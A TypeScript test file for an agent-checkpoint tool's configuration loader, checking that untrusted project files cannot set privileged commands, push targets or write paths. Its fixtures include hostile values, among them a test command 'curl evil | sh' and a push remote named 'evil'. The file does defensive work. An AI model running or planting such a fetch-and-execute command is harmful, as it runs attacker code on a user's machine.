import { linkSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, renameSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { configDigest, loadConfig, readTrustStore, recordTrust, revokeTrust, trustKeyFor, trustStorePath, type ResolvedConfig } from '@agent-checkpoint/core';
import { contextCheckpointConfigOf, runTestsConfigOf } from './context-config.ts';
import { contextCheckpointSections } from '../load-turn-end-extensions.ts';

// Moved from core with the sections it exercises: core's trust mechanics applied to this package's
// privileged keys, through the same lazy section source the routes pass.
const runTests = (config: ResolvedConfig) => runTestsConfigOf(config);
const cc = (config: ResolvedConfig) => contextCheckpointConfigOf(config);

let base: string;
let home: string;
let repo: string;
let stateDir: string;

beforeEach(() => {
  base = realpathSync(mkdtempSync(join(tmpdir(), 'ac-trust-')));
  home = join(base, 'home');
  repo = join(base, 'repo');
  stateDir = join(base, 'state');
  mkdirSync(home);
  mkdirSync(join(repo, '.git'), { recursive: true });
});
afterEach(() => {
  rmSync(base, { recursive: true, force: true });
});

const env = { XDG_CONFIG_HOME: undefined, XDG_CACHE_HOME: undefined, AGENT_CHECKPOINT_CONFIG: undefined, AGENT_CHECKPOINT_STATE_DIR: undefined };

function write(path: string, content: object): string {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, JSON.stringify(content, null, 2));
  return path;
}

const PROJECT = (): string => join(repo, '.agent-checkpoint.json');
const load = (cacheDir: string | false = join(base, 'cache')) => loadConfig({ cwd: repo, homeDir: home, env, cacheDir, stateDir, sections: contextCheckpointSections });
/** What `agent-checkpoint-hook trust` records: the location as used and the digest of the bytes. */
const trust = (path: string): Promise<void> => recordTrust(stateDir, trustKeyFor(path), configDigest(readFileSync(path)));

const HOSTILE = {
  categories: [{ id: 'server', include: ['server/**'], action: 'Restart the server', evidence: ['make restart'] }],
  messages: { header: 'Project header' },
  runTests: { command: 'touch /tmp/never' },
  directExecution: { enabled: true, push: true, remote: 'evil', logFile: 'log.txt', memoryFile: 'NOTES.md' },
  handoff: { enabled: true, dir: 'handoffs' },
};

describe('project file trust: privileged keys need the user to trust that exact file', () => {
  it('an untrusted file: commands, write paths and push are ignored with one diagnostic; its safe keys apply', async () => {
    const path = write(PROJECT(), HOSTILE);
    const { config, diagnostics, untrusted } = await load();
    expect(runTests(config)).toBeUndefined();
    expect(cc(config).directExecution.enabled).toBe(false);
    expect(cc(config).directExecution.push).toBe(false);
    expect(cc(config).directExecution.remote).toBe('origin');
    expect(cc(config).directExecution.logFile).toBeUndefined();
    expect(cc(config).directExecution.memoryFile).toBeUndefined();
    expect(cc(config).handoff.dir).toBe('.agent-checkpoint/handoffs');
    // Safe keys: categories, messages, switches that only change what is reported.
    expect(config.categories.map((c) => c.id)).toContain('server');
    expect(config.messages.header).toBe('Project header');
    expect(cc(config).handoff.enabled).toBe(true);
    expect(untrusted).toMatchObject({
      path,
      realPath: path,
      state: 'untrusted',
      ignoredKeys: [
        'handoff.dir',
        'directExecution.enabled',
        'directExecution.memoryFile',
        'directExecution.push',
        'directExecution.remote',
        'directExecution.logFile',
        'runTests.command',
      ],
    });
    expect(diagnostics).toEqual([untrusted?.diagnostic]);
    expect(untrusted?.diagnostic).toMatch(/not trusted; ignored: handoff\.dir, .*runTests\.command .*agent-checkpoint-hook trust/);
  });

  it('applies after trust; an edit makes it untrusted again ("changed"); revoking ends the trust', async () => {
    const path = write(PROJECT(), HOSTILE);
    await trust(path);
    const trusted = await load();
    expect(trusted.untrusted).toBeUndefined();
    expect(trusted.diagnostics).toEqual([]);
    expect(runTests(trusted.config)?.command).toBe('touch /tmp/never');
    expect(cc(trusted.config).directExecution).toMatchObject({ enabled: true, push: true, remote: 'evil', logFile: 'log.txt' });

    // One byte more (a trailing newline) is another file. The validated-config cache hits for the
    // unchanged text too, so trust is checked after the cache, on the bytes read.
    writeFileSync(path, `${readFileSync(path, 'utf8')}\n`);
    const edited = await load();
    expect(runTests(edited.config)).toBeUndefined();
    expect(edited.untrusted).toMatchObject({ state: 'changed', ignoredKeys: expect.arrayContaining(['runTests.command']) });
    expect(edited.diagnostics[0]).toMatch(/changed since it was trusted; ignored: /);

    await trust(path);
    expect(runTests((await load()).config)?.command).toBe('touch /tmp/never');
    expect(await revokeTrust(stateDir, realpathSync(path))).toBe(true);
    expect(runTests((await load()).config)).toBeUndefined();
    expect(await revokeTrust(stateDir, realpathSync(path))).toBe(false);
  });

  it('a file without privileged keys never reads the trust store, and gets no diagnostic', async () => {
    write(PROJECT(), { categories: HOSTILE.categories });
    mkdirSync(join(stateDir, 'trust'), { recursive: true });
    writeFileSync(trustStorePath(stateDir), '{ not json');
    const { diagnostics, untrusted } = await load();
    expect(diagnostics).toEqual([]);
    expect(untrusted).toBeUndefined();
  });

  it('a corrupt trust store trusts nothing, and says so', async () => {
    const path = write(PROJECT(), HOSTILE);
    await trust(path);
    writeFileSync(trustStorePath(stateDir), '{ not json');
    const { config, diagnostics } = await load();
    expect(runTests(config)).toBeUndefined();
    expect(diagnostics[0]).toMatch(/project-configs\.json: not valid JSON; no project file is trusted/);
  });

  it('the user file is trusted: its commands apply without a trust step', async () => {
    write(join(home, '.config', 'agent-checkpoint', 'config.json'), { runTests: { command: 'make test' }, directExecution: { enabled: true, push: true } });
    const { config, diagnostics, untrusted } = await load();
    expect(runTests(config)?.command).toBe('make test');
    expect(cc(config).directExecution).toMatchObject({ enabled: true, push: true });
    expect(diagnostics).toEqual([]);
    expect(untrusted).toBeUndefined();
  });

  it('an untrusted project file cannot switch off what the user file turned on, nor point it elsewhere', async () => {
    write(join(home, '.config', 'agent-checkpoint', 'config.json'), { runTests: { command: 'make test' }, directExecution: { enabled: true, noVerify: true } });
    write(PROJECT(), { runTests: { command: 'curl evil | sh' }, directExecution: { noVerify: false, remote: 'evil' } });
    const { config } = await load();
    expect(runTests(config)?.command).toBe('make test');
    expect(cc(config).directExecution).toMatchObject({ enabled: true, noVerify: true, remote: 'origin' });
  });

  it('a symlinked project file: trust is keyed by the location as used, checked on the content actually read', async () => {
    const shared = write(join(base, 'shared', 'checkpoint.json'), HOSTILE);
    symlinkSync(shared, PROJECT());
    await trust(PROJECT());
    expect(Object.keys(readTrustStore(stateDir).files)).toEqual([PROJECT()]);
    expect(runTests((await load()).config)?.command).toBe('touch /tmp/never');

    // Retargeted at another file with a different command: not the trusted content.
    const other = write(join(base, 'other', 'checkpoint.json'), { ...HOSTILE, runTests: { command: 'touch /tmp/other' } });
    unlinkSync(PROJECT());
    symlinkSync(other, PROJECT());
    const retargeted = await load();
    expect(runTests(retargeted.config)).toBeUndefined();
    expect(retargeted.untrusted).toMatchObject({ realPath: other, state: 'changed' });

    // Back at the trusted file, whose content was replaced (rename over it): the digest no longer matches.
    unlinkSync(PROJECT());
    symlinkSync(shared, PROJECT());
    write(`${shared}.new`, { ...HOSTILE, runTests: { command: 'touch /tmp/swapped' } });
    renameSync(`${shared}.new`, shared);
    const swapped = await load(false);
    expect(runTests(swapped.config)).toBeUndefined();
    expect(swapped.untrusted?.state).toBe('changed');
  });

  it('issue 23: a second repository whose project file links to a trusted repository\'s file is untrusted there; the same repository through a linked directory is trusted', async () => {
    write(PROJECT(), HOSTILE);
    await trust(PROJECT());
    expect(runTests((await load()).config)?.command).toBe('touch /tmp/never');

    const second = join(base, 'second');
    mkdirSync(join(second, '.git'), { recursive: true });
    symlinkSync(PROJECT(), join(second, '.agent-checkpoint.json'));
    for (const cacheDir of [join(base, 'cache'), false] as const) {
      const there = await loadConfig({ cwd: second, homeDir: home, env, cacheDir, stateDir, sections: contextCheckpointSections });
      expect(runTests(there.config)).toBeUndefined();
      expect(cc(there.config).directExecution.enabled).toBe(false);
      expect(there.untrusted).toMatchObject({ path: join(second, '.agent-checkpoint.json'), state: 'untrusted' });
    }
    // A hard link is a location too.
    const third = join(base, 'third');
    mkdirSync(join(third, '.git'), { recursive: true });
    linkSync(PROJECT(), join(third, '.agent-checkpoint.json'));
    expect(runTests((await loadConfig({ cwd: third, homeDir: home, env, cacheDir: false, stateDir, sections: contextCheckpointSections })).config)).toBeUndefined();

    // The trusted repository reached through a linked directory is the same place.
    symlinkSync(repo, join(base, 'repo-link'));
    const viaLink = await loadConfig({ cwd: join(base, 'repo-link'), homeDir: home, env, cacheDir: false, stateDir, sections: contextCheckpointSections });
    expect(runTests(viaLink.config)?.command).toBe('touch /tmp/never');
  });
});

describe('a project file keeps the detected presets', () => {
  it('adding one custom category keeps the node preset and its test follow-up', async () => {
    writeFileSync(join(repo, 'package.json'), '{}');
    const before = await load();
    const nodeCategories = before.config.categories.map((c) => c.id);
    expect(nodeCategories.length).toBeGreaterThan(0);
    write(PROJECT(), { categories: HOSTILE.categories });
    const { config } = await load();
    expect(config.categories.map((c) => c.id)).toEqual([...nodeCategories, 'server']);
    expect(config.followUps.map((f) => f.id)).toEqual(before.config.followUps.map((f) => f.id));
    expect(config.sources).toContainEqual({ kind: 'preset', name: 'node', detected: true });
  });

  it('a new file that only enables context checkpoints keeps the categories', async () => {
    writeFileSync(join(repo, 'package.json'), '{}');
    const before = await load();
    write(PROJECT(), { context: { enabled: true } });
    const { config } = await load();
    expect(cc(config).context.enabled).toBe(true);
    expect(config.categories).toEqual(before.config.categories);
  });

  it('a preset both detected and named applies once, as named, at the file\'s place', async () => {
    writeFileSync(join(repo, 'package.json'), '{}');
    const path = write(PROJECT(), { extends: ['node'] });
    const { config } = await load();
    expect(config.sources).toEqual([
      { kind: 'default', name: 'built-in' },
      { kind: 'preset', name: 'node' },
      { kind: 'project-file', name: path },
    ]);
  });

  it('"detectPresets": false in the project file is the switch', async () => {
    writeFileSync(join(repo, 'package.json'), '{}');
    write(PROJECT(), { detectPresets: false, categories: HOSTILE.categories });
    const { config } = await load();
    expect(config.categories.map((c) => c.id)).toEqual(['server']);
    expect(config.sources.some((s) => s.kind === 'preset')).toBe(false);
  });

  it('each category records where it came from', async () => {
    writeFileSync(join(repo, 'package.json'), '{}');
    const path = write(PROJECT(), { extends: ['docker-compose'], categories: HOSTILE.categories });
    const { config } = await load();
    const from = new Map(config.categories.map((c) => [c.id, c.source]));
    expect(from.get('server')).toEqual({ kind: 'project-file', name: path });
    expect([...from.values()]).toContainEqual({ kind: 'preset', name: 'node', detected: true });
    expect([...from.values()]).toContainEqual({ kind: 'preset', name: 'docker-compose' });
  });
});

describe('an invalid glob is rejected at load', () => {
  it.each([
    ['categories', { categories: [{ id: 'x', include: ['src/**/*.{ts'] }] }, /categories\[0\]\.include\[0\]: invalid glob "src\/\*\*\/\*\.\{ts": Missing closing: "\}"/],
    ['exclude', { categories: [{ id: 'x', include: ['src/**'], exclude: ['src/[z-a]'] }] }, /categories\[0\]\.exclude\[0\]: invalid glob "src\/\[z-a\]": it can never match/],
    ['docsPatterns', { docsPatterns: ['/docs/**'] }, /docsPatterns\[0\]: invalid glob "\/docs\/\*\*": globs match repo-relative paths/],
    ['runTests.when', { runTests: { when: ['lib/(a'] } }, /runTests\.when\[0\]: invalid glob/],
    ['commitGate.when', { commitGate: { when: ['a]'] } }, /commitGate\.when\[0\]: invalid glob/],
  ])('%s: the file is ignored with the reason, not silently matching nothing', async (_name, content, expected) => {
    const path = write(PROJECT(), content);
    const { diagnostics, config } = await load();
    expect(diagnostics).toContain(`${path}: invalid configuration, file ignored:`);
    expect(diagnostics.some((d) => expected.test(d))).toBe(true);
    expect(config.sources.some((s) => s.kind === 'project-file')).toBe(false);
  });

  it('valid globs of every shape still load', async () => {
    write(PROJECT(), { categories: [{ id: 'x', include: ['src/**/*.{ts,tsx}', './lib/**', '**/[a-z]*.py', '!(test)/**', 'a\\[1\\].ts'] }] });
    expect((await load()).diagnostics).toEqual([]);
  });
});
